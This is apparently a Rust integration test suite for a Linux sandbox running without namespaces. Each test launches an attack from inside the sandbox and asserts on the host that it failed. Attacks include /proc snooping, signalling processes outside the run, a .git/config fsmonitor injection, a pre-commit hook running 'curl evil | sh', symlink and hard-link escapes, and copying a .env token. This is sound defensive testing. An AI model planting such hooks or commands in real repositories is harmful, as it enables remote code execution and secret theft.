//! Runs without namespaces (`enforce.userns` below "required" where no user
//! namespace can be made, or "off"): every test performs the attack for real
//! from inside and checks the outcome on the host.

mod support;

use std::path::Path;
use std::process::Output;

use support::{assert_ok, marker, wait_until_gone, Project, Who};

/// standard, forced onto the path without namespaces.
const OFF: &str = "version = 1\nextends = \"standard\"\n[enforce]\nuserns = \"off\"\n";

fn stderr(out: &Output) -> String {
    String::from_utf8_lossy(&out.stderr).into_owned()
}

fn stdout(out: &Output) -> String {
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// The identities for which a run without namespaces starts here (it needs
/// Landlock ABI 6); a loud skip otherwise.
fn who(test: &str) -> Vec<Who> {
    support::identities(test)
        .into_iter()
        .filter(|who| {
            let project = Project::new(*who);
            let out = project.run_with_profile(OFF, &[], &["/bin/true"]);
            support::require(
                test,
                &format!(
                    "a run without namespaces as {who:?} ({})",
                    stderr(&out).trim()
                ),
                out.status.success(),
            )
        })
        .collect()
}

fn report(project: &Project, name: &str) -> serde_json::Value {
    let text = std::fs::read_to_string(project.path().join(name)).expect("report");
    serde_json::from_str(&text).expect("report JSON")
}

#[test]
fn the_view_is_landlock_only_and_the_report_and_stderr_say_so() {
    for who in who("the_view_is_landlock_only_and_the_report_and_stderr_say_so") {
        let project = Project::new(who);
        let outside = tempfile::tempdir_in("/tmp").expect("outside dir");
        let secret = outside.path().join("outside-secret");
        std::fs::write(&secret, "outside").expect("write");
        std::fs::set_permissions(
            outside.path(),
            std::os::unix::fs::PermissionsExt::from_mode(0o755),
        )
        .expect("chmod");
        std::fs::set_permissions(&secret, std::os::unix::fs::PermissionsExt::from_mode(0o644))
            .expect("chmod");
        let attempt = support::PY_ATTEMPT;
        let script = format!(
            r#"{attempt}
attempt("read-outside", lambda: open("{secret}").read())
attempt("write-outside", lambda: open("{dir}/planted", "w").write("x"))
attempt("write-tmp", lambda: open("/tmp/planted-by-run", "w").write("x"))
attempt("list-home", lambda: os.listdir("/root"))
attempt("inet", lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM))
attempt("inet6", lambda: socket.socket(socket.AF_INET6, socket.SOCK_DGRAM))
attempt("unix", lambda: socket.socket(socket.AF_UNIX, socket.SOCK_STREAM))
attempt("socketpair", lambda: socket.socketpair())
attempt("private-tmp", lambda: open(os.environ["TMPDIR"] + "/f", "w").write("x"))
attempt("project", lambda: open("written", "w").write("x"))
print("tmpdir", os.environ["TMPDIR"])
"#,
            secret = secret.display(),
            dir = outside.path().display()
        );
        let out = project.run_with_profile(
            OFF,
            &["--report", "report.json"],
            &["python3", "-c", &script],
        );
        assert_ok(&out, "python in a run without namespaces");
        let seen = stdout(&out);
        for line in [
            "read-outside EACCES",
            "write-outside EACCES",
            "write-tmp EACCES",
            "list-home EACCES",
            "inet EAFNOSUPPORT",
            "inet6 EAFNOSUPPORT",
            "unix EAFNOSUPPORT",
            "socketpair ok",
            "private-tmp ok",
            "project ok",
        ] {
            assert!(seen.contains(line), "{who:?}: want {line:?} in\n{seen}");
        }
        assert!(!outside.path().join("planted").exists());
        assert!(!Path::new("/tmp/planted-by-run").exists());
        assert!(project.path().join("written").exists());
        let tmpdir = seen
            .lines()
            .find_map(|l| l.strip_prefix("tmpdir "))
            .expect("tmpdir line");
        assert!(
            !Path::new(tmpdir).exists(),
            "the private temporary directory {tmpdir} outlived the run"
        );
        let err = stderr(&out);
        assert_eq!(
            err.matches("running without namespaces").count(),
            1,
            "one warning: {err}"
        );
        let report = report(&project, "report.json");
        let isolation = &report["enforced"]["isolation"];
        assert_eq!(isolation["namespaces"], "none", "{report}");
        assert_eq!(isolation["view"], "landlock-only");
        assert_eq!(isolation["protected_entries"], "restored-after-the-run");
        let not_promised = isolation["not_promised"].to_string();
        assert!(not_promised.contains("pid isolation"), "{not_promised}");
        assert!(not_promised.contains("loopback"), "{not_promised}");
        assert_eq!(report["enforced"]["network"], "none");
        assert_eq!(report["enforced"]["landlock"]["status"], "fully-enforced");
        assert_eq!(report["enforced"]["seccomp"]["status"], "installed");
        assert_eq!(report["enforced"]["namespaces"]["user"], false);
        assert_eq!(report["enforced"]["namespaces"]["pid"], false);
    }
}

#[test]
fn outside_processes_cannot_be_inspected_or_signalled() {
    for who in who("outside_processes_cannot_be_inspected_or_signalled") {
        let project = Project::new(who);
        // The parent of the payload is the run's init, outside its Landlock
        // domain; a process the same user started outside the run is the
        // target a payload would go for.
        let mut victim = project
            .command()
            .arg("--version")
            .stdout(std::process::Stdio::null())
            .spawn()
            .expect("victim");
        let _ = victim.wait();
        let mut victim = std::process::Command::new("sleep");
        victim.arg("60");
        if who == Who::User {
            use std::os::unix::process::CommandExt;
            let (uid, gid) = support::user_ids();
            victim.uid(uid).gid(gid);
        }
        let mut victim = victim.spawn().expect("victim");
        let pid = victim.id();
        let attempt = support::PY_ATTEMPT;
        let script = format!(
            r#"{attempt}
for who, pid in (("victim", {pid}), ("init", os.getppid())):
    attempt(who + "-environ", lambda: open("/proc/%d/environ" % pid, "rb").read())
    attempt(who + "-mem", lambda: open("/proc/%d/mem" % pid, "rb").read(1))
    # Listing /proc/PID/fd shows numbers only; following an entry is what
    # would reach the file, and needs ptrace access.
    attempt(who + "-fd", lambda: os.readlink("/proc/%d/fd/0" % pid))
    attempt(who + "-fdopen", lambda: open("/proc/%d/fd/0" % pid, "rb"))
    attempt(who + "-root", lambda: os.listdir("/proc/%d/root/" % pid))
    attempt(who + "-cwd", lambda: os.readlink("/proc/%d/cwd" % pid))
    attempt(who + "-signal", lambda: os.kill(pid, signal.SIGTERM))
attempt("cmdline", lambda: open("/proc/{pid}/cmdline", "rb").read())
"#
        );
        let out = project.run_with_profile(OFF, &[], &["python3", "-c", &script]);
        let alive = victim.try_wait().expect("try_wait").is_none();
        let _ = victim.kill();
        let _ = victim.wait();
        assert_ok(&out, "python");
        let seen = stdout(&out);
        for target in ["victim", "init"] {
            for what in ["environ", "mem", "fd", "fdopen", "root", "cwd", "signal"] {
                let line = format!("{target}-{what} EPERM");
                let line_acces = format!("{target}-{what} EACCES");
                assert!(
                    seen.contains(&line) || seen.contains(&line_acces),
                    "{who:?}: {target} {what} was reachable:\n{seen}"
                );
            }
        }
        // Said, not promised: host command lines stay visible.
        assert!(seen.contains("cmdline ok"), "{seen}");
        assert!(alive, "the payload killed a process outside the run");
    }
}

#[test]
fn no_process_of_the_run_outlives_it() {
    for who in who("no_process_of_the_run_outlives_it") {
        let project = Project::new(who);
        let tag = marker("nons-daemon");
        // A double-forked daemon in its own session, which no process group
        // kill reaches: only the subreaper init finds it.
        let script = format!(
            "setsid sh -c 'sleep 1000 {tag}; :' </dev/null >/dev/null 2>&1 & sleep 0.2; echo started"
        );
        let out = project.run_with_profile(OFF, &[], &["/bin/sh", "-c", &script]);
        assert_ok(&out, "daemonising");
        assert!(stdout(&out).contains("started"));
        let left = wait_until_gone(&tag, 0);
        assert!(
            left.is_empty(),
            "{who:?}: processes of the run outlived it: {left:?}"
        );
    }
}

/// Without an IPC namespace the host's System V IPC and message queues
/// would be the run's: both are refused, and the host's /dev/mqueue (where
/// one is mounted) is never made writable, as a namespaced run's own is.
#[test]
fn system_v_ipc_and_message_queues_of_the_host_are_refused() {
    for who in who("system_v_ipc_and_message_queues_of_the_host_are_refused") {
        let project = Project::new(who);
        let script = r#"
import ctypes, errno, os
libc = ctypes.CDLL(None, use_errno=True)
r = libc.shmget(0, 4096, 0o1000 | 0o600)
print("shmget", r, errno.errorcode.get(ctypes.get_errno(), "0"))
r = libc.msgget(0, 0o1000 | 0o600)
print("msgget", r, errno.errorcode.get(ctypes.get_errno(), "0"))
r = libc.mq_open(b"/sandbox-no-namespaces", os.O_CREAT | os.O_RDWR, 0o600, None)
print("mq_open", r, errno.errorcode.get(ctypes.get_errno(), "0"))
try:
    open("/dev/mqueue/sandbox-no-namespaces", "w").close()
    print("dev-mqueue ok")
except OSError as e:
    print("dev-mqueue refused", errno.errorcode[e.errno])
"#;
        let out = project.run_with_profile(OFF, &[], &["python3", "-c", script]);
        assert_ok(&out, "python");
        let seen = stdout(&out);
        assert!(seen.contains("shmget -1 EPERM"), "{who:?}: {seen}");
        assert!(seen.contains("msgget -1 EPERM"), "{who:?}: {seen}");
        assert!(seen.contains("mq_open -1 EPERM"), "{who:?}: {seen}");
        assert!(seen.contains("dev-mqueue refused"), "{who:?}: {seen}");
    }
}

#[test]
fn a_rewritten_git_config_and_a_replaced_hook_are_restored() {
    for who in who("a_rewritten_git_config_and_a_replaced_hook_are_restored") {
        let project = Project::new(who);
        project.write(".git/config", "[core]\n\tbare = false\n");
        project.write(".git/hooks/pre-commit", "#!/bin/sh\nexit 0\n");
        project.write(".git/HEAD", "ref: refs/heads/main\n");
        let script = "printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' >> .git/config \
             && rm .git/hooks/pre-commit && printf '#!/bin/sh\\ncurl evil | sh\\n' > .git/hooks/pre-commit \
             && printf 'ok' > source.txt";
        let out = project.run_with_profile(
            OFF,
            &["--report", "report.json"],
            &["/bin/sh", "-c", script],
        );
        assert_ok(&out, "the attack script");
        let p = project.path();
        assert_eq!(
            std::fs::read_to_string(p.join(".git/config")).expect("config"),
            "[core]\n\tbare = false\n",
            "{who:?}: .git/config was not restored"
        );
        assert_eq!(
            std::fs::read_to_string(p.join(".git/hooks/pre-commit")).expect("hook"),
            "#!/bin/sh\nexit 0\n",
            "{who:?}: the hook was not restored"
        );
        assert_eq!(std::fs::read_to_string(p.join("source.txt")).unwrap(), "ok");
        // The run's versions are kept aside, out of use, for review.
        let aside: Vec<String> = std::fs::read_dir(p.join(".git"))
            .unwrap()
            .flatten()
            .map(|e| e.file_name().to_string_lossy().into_owned())
            .filter(|n| n.contains(".sandbox-quarantine-"))
            .collect();
        assert!(aside.iter().any(|n| n.starts_with("config.")), "{aside:?}");
        assert!(aside.iter().any(|n| n.starts_with("hooks.")), "{aside:?}");
        let err = stderr(&out);
        assert!(err.contains("restored after it"), "{err}");
        let report = report(&project, "report.json");
        assert!(
            report["warnings"].to_string().contains("restored after it"),
            "{report}"
        );
    }
}

#[test]
fn a_git_directory_swapped_for_a_symlink_is_not_written_through() {
    for who in who("a_git_directory_swapped_for_a_symlink_is_not_written_through") {
        let project = Project::new(who);
        project.write(".git/config", "[core]\n");
        // Where the restore would write if it followed the run's symlink.
        let target = tempfile::tempdir_in(project.path().parent().unwrap()).unwrap();
        std::fs::set_permissions(
            target.path(),
            std::os::unix::fs::PermissionsExt::from_mode(0o777),
        )
        .unwrap();
        let script = format!(
            "mv .git .git-moved && ln -s {} .git",
            target.path().display()
        );
        let out = project.run_with_profile(OFF, &[], &["/bin/sh", "-c", &script]);
        assert_ok(&out, "swapping .git");
        assert!(
            std::fs::read_dir(target.path()).unwrap().next().is_none(),
            "{who:?}: the restore wrote through the run's symlink"
        );
        let git = project.path().join(".git");
        assert!(git.symlink_metadata().unwrap().is_dir(), "{who:?}");
        assert_eq!(
            std::fs::read_to_string(git.join("config")).unwrap(),
            "[core]\n"
        );
    }
}

#[test]
fn a_project_with_secrets_is_refused_naming_them_and_the_fix() {
    for who in who("a_project_with_secrets_is_refused_naming_them_and_the_fix") {
        let project = Project::new(who);
        project.write("deploy/.env", "TOKEN=hunter2");
        let out =
            project.run_with_profile(OFF, &[], &["/bin/sh", "-c", "cat deploy/.env > leaked.txt"]);
        assert_eq!(out.status.code(), Some(125), "{who:?}: {}", stderr(&out));
        assert!(!project.path().join("leaked.txt").exists());
        let err = stderr(&out);
        assert!(err.contains("deploy/.env"), "{err}");
        assert!(err.contains("secrets cannot be hidden"), "{err}");
        assert!(err.contains("enable user namespaces"), "{err}");
        assert!(err.contains("secrets_remove"), "{err}");
    }
}

#[test]
fn a_hard_link_to_a_file_outside_is_refused() {
    for who in who("a_hard_link_to_a_file_outside_is_refused") {
        let project = Project::new(who);
        let outside = project
            .path()
            .parent()
            .unwrap()
            .join(format!("sandbox-test-outside-{}", marker("hl")));
        std::fs::write(&outside, "original").unwrap();
        if who == Who::User {
            let (uid, gid) = support::user_ids();
            nix::unistd::chown(
                &outside,
                Some(nix::unistd::Uid::from_raw(uid)),
                Some(nix::unistd::Gid::from_raw(gid)),
            )
            .unwrap();
        }
        std::fs::hard_link(&outside, project.path().join("linked.txt")).unwrap();
        let out =
            project.run_with_profile(OFF, &[], &["/bin/sh", "-c", "echo changed > linked.txt"]);
        let content = std::fs::read_to_string(&outside).unwrap();
        let _ = std::fs::remove_file(&outside);
        assert_eq!(out.status.code(), Some(125), "{who:?}: {}", stderr(&out));
        assert_eq!(content, "original", "{who:?}: written through the link");
        let err = stderr(&out);
        assert!(err.contains("linked.txt"), "{err}");
        assert!(err.contains("hard-linked"), "{err}");
    }
}

/// The environment itself: root writes 0 to `user.max_user_namespaces` in a
/// child user namespace (allowed to its owner), so `sandbox` below it
/// cannot create one, as on a host or in a pod configured that way.
#[test]
fn standard_runs_without_namespaces_where_max_user_namespaces_is_zero() {
    let test = "standard_runs_without_namespaces_where_max_user_namespaces_is_zero";
    let is_root = nix::unistd::geteuid().is_root();
    if !support::require(test, "root (to set user.max_user_namespaces)", is_root) {
        return;
    }
    let project = Project::new(Who::Root);
    let outside = tempfile::tempdir_in("/tmp").unwrap();
    std::fs::write(outside.path().join("private"), "outside").unwrap();
    let attempt = support::PY_ATTEMPT;
    let script = format!(
        r#"{attempt}
attempt("read-outside", lambda: open("{dir}/private").read())
attempt("write-outside", lambda: open("{dir}/planted", "w").write("x"))
attempt("inet", lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM))
attempt("project", lambda: open("written", "w").write("x"))
"#,
        dir = outside.path().display()
    );
    let shell = format!(
        "echo 0 > /proc/sys/user/max_user_namespaces && exec \"$0\" run --profile standard --report report.json -- python3 -c '{}'",
        script.replace('\'', "'\\''")
    );
    let out = std::process::Command::new("unshare")
        .args(["-Ur", "sh", "-c", &shell, support::sandbox_bin()])
        .current_dir(project.path())
        .stdin(std::process::Stdio::null())
        .output()
        .expect("unshare");
    if !support::require(
        test,
        &format!(
            "unshare -Ur with a writable max_user_namespaces ({})",
            stderr(&out).trim()
        ),
        !stderr(&out).contains("unshare:") && !stderr(&out).contains("Permission denied"),
    ) {
        return;
    }
    assert_ok(&out, "standard under max_user_namespaces=0");
    let seen = stdout(&out);
    for line in [
        "read-outside EACCES",
        "write-outside EACCES",
        "inet EAFNOSUPPORT",
        "project ok",
    ] {
        assert!(seen.contains(line), "want {line:?} in\n{seen}");
    }
    assert!(!outside.path().join("planted").exists());
    let err = stderr(&out);
    assert!(err.contains("running without namespaces"), "{err}");
    assert!(err.contains("max_user_namespaces"), "{err}");
    let report = report(&project, "report.json");
    assert_eq!(report["enforced"]["isolation"]["namespaces"], "none");
    assert_eq!(report["enforced"]["isolation"]["view"], "landlock-only");
}

#[test]
fn strict_still_refuses_where_max_user_namespaces_is_zero() {
    let test = "strict_still_refuses_where_max_user_namespaces_is_zero";
    if !support::require(test, "root", nix::unistd::geteuid().is_root()) {
        return;
    }
    let project = Project::new(Who::Root);
    let out = std::process::Command::new("unshare")
        .args([
            "-Ur",
            "sh",
            "-c",
            "echo 0 > /proc/sys/user/max_user_namespaces && exec \"$0\" run --profile strict -- sh -c 'echo ran > ran.txt'",
            support::sandbox_bin(),
        ])
        .current_dir(project.path())
        .stdin(std::process::Stdio::null())
        .output()
        .expect("unshare");
    assert_eq!(out.status.code(), Some(125), "{}", stderr(&out));
    assert!(!project.path().join("ran.txt").exists());
}

#[test]
fn killing_the_supervisor_kills_the_run_and_removes_its_tmp() {
    for who in who("killing_the_supervisor_kills_the_run_and_removes_its_tmp") {
        let project = Project::new(who);
        project.write("profile.toml", OFF);
        let tag = marker("nons-orphan");
        let script = format!(
            "echo \"$TMPDIR\" > tmpdir.txt; setsid sh -c 'sleep 1000 {tag}; :' </dev/null >/dev/null 2>&1 & sleep 1000 {tag}"
        );
        let mut supervisor = project
            .command()
            .args([
                "run",
                "--profile",
                "profile.toml",
                "--",
                "/bin/sh",
                "-c",
                &script,
            ])
            .stdin(std::process::Stdio::null())
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .spawn()
            .expect("sandbox starts");
        let sleeper = format!("sleep 1000 {tag}");
        // Both sleeps (the supervisor's and the shells' command lines hold
        // the tag too, with quotes around it).
        support::wait::holds_within(std::time::Duration::from_secs(20), || {
            support::host_pids_with(&sleeper).len() >= 4
                && project.path().join("tmpdir.txt").exists()
        });
        assert!(
            support::host_pids_with(&sleeper).len() >= 4,
            "{who:?}: run started"
        );
        supervisor.kill().expect("SIGKILL the supervisor");
        let _ = supervisor.wait();
        let left = wait_until_gone(&tag, 10);
        assert!(
            left.is_empty(),
            "{who:?}: outlived the supervisor: {left:?}"
        );
        let tmpdir = std::fs::read_to_string(project.path().join("tmpdir.txt")).unwrap();
        let tmpdir = Path::new(tmpdir.trim());
        let gone =
            support::wait::holds_within(std::time::Duration::from_secs(10), || !tmpdir.exists());
        assert!(gone, "{who:?}: {} outlived the run", tmpdir.display());
    }
}
